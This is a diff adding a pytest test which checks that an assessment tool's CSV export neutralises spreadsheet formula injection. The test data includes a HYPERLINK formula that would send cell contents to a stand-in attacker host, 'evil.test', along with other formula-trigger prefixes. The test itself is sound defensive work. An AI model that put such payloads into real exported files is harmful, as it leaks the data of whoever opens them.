@@ -2,6 +2,8 @@
 
 from __future__ import annotations
 
+import csv
+import io
 import json
 from pathlib import Path
 
@@ -177,3 +179,21 @@ def test_export_command(
     assert cli_main(["export", "--format", fmt, "--assessment", "no-such-slug"]) == 0
     printed = capsys.readouterr().out
     assert printed.strip() in ("[]", ",".join(export.COLUMNS))
+
+
+FORMULAS = ['=HYPERLINK("http://evil.test/?"&A1,"x")', "+1+1", "-2+3", "@SUM(A1)", "\tx", "\rx"]
+
+
+@pytest.mark.parametrize("name", FORMULAS)
+def test_csv_cells_never_start_a_formula(session: Session, name: str) -> None:
+    grader = make_user(session, role=Role.grader)
+    submission = make_submission(session, comments=COMMENTS, candidate_name=name)
+    make_auto_score(session, submission, score_dict(matches=[], red_flags=[]))
+    decision = reviews.finalize(session, submission.id, grader, version=0)
+    assert decision is not None
+    records = [r for r in export.export_records(session) if r["submission"] == submission.id]
+    assert [r["candidate"] for r in records] == [name]
+    text = export.to_csv(records)
+    cells = [cell for row in csv.reader(io.StringIO(text)) for cell in row]
+    assert not [c for c in cells if c.startswith(("=", "+", "-", "@", "\t", "\r"))]
+    assert export.from_csv(text) == records
